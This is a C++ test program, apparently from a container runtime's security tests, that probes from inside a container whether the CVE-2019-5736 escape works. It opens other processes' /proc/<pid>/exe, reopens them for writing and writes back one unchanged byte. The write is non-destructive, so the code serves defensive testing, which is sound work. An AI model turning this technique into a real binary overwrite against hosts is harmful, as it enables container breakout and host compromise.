// A static program the security tests copy into a container to attempt
// known container escapes from the inside. It only reports what it managed
// to do; it never writes to anything it opened.
//
//   attack exe-grab SECONDS   CVE-2019-5736: for SECONDS, try to open
//                             /proc/<pid>/exe of every other process and
//                             reopen it and write to it; print "opened
//                             DEV:INO" and "writable DEV:INO" for each new
//                             success.
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>

namespace {

long now_s() {
  timespec ts{};
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec;
}

int exe_grab(int seconds) {
  std::set<std::string> opened, writable;
  long end = now_s() + seconds;
  pid_t self = getpid();
  std::printf("ready\n");
  std::fflush(stdout);
  while (now_s() < end) {
    DIR* d = opendir("/proc");
    if (!d) return 1;
    while (dirent* e = readdir(d)) {
      pid_t pid = static_cast<pid_t>(std::atoi(e->d_name));
      if (pid <= 0 || pid == self) continue;
      std::string path = "/proc/" + std::string(e->d_name) + "/exe";
      int fd = open(path.c_str(), O_PATH | O_CLOEXEC);
      if (fd < 0) continue;
      struct stat st{};
      if (fstat(fd, &st) == 0) {
        std::string id = std::to_string(major(st.st_dev)) + ":" + std::to_string(minor(st.st_dev)) + ":" +
                         std::to_string(st.st_ino);
        if (opened.insert(id).second) std::printf("opened %s\n", id.c_str());
        // The escape: reopen the executable for writing through the fd and
        // write to it (its own first byte back, so a success harms nothing).
        // Opening alone proves little: a sealed copy whose process has just
        // exited can be opened, but not written.
        std::string again = "/proc/self/fd/" + std::to_string(fd);
        int w = open(again.c_str(), O_RDWR | O_CLOEXEC);
        if (w >= 0) {
          char c;
          if (pread(w, &c, 1, 0) == 1 && pwrite(w, &c, 1, 0) == 1 && writable.insert(id).second)
            std::printf("writable %s\n", id.c_str());
          close(w);
        }
      }
      close(fd);
    }
    closedir(d);
    std::fflush(stdout);
  }
  std::printf("done\n");
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc == 3 && std::strcmp(argv[1], "exe-grab") == 0) return exe_grab(std::atoi(argv[2]));
  std::fprintf(stderr, "usage: attack exe-grab SECONDS\n");
  return 2;
}
